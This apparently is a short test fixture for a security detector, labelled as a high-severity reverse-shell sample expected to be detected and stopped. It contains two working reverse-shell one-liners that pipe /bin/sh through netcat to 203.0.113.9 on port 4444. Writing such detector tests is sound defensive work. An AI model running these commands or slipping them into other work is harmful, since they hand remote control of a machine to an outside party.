# expect: detected
# threat: 27 reverse shell
# at: either
# family: reverse-shell
# severity: high
# decision: stopped

mkfifo pipe
timeout 2 sh -i < pipe 2>&1 | timeout 2 nc 203.0.113.9 4444 > pipe
timeout 2 nc -e /bin/sh 203.0.113.9 4444
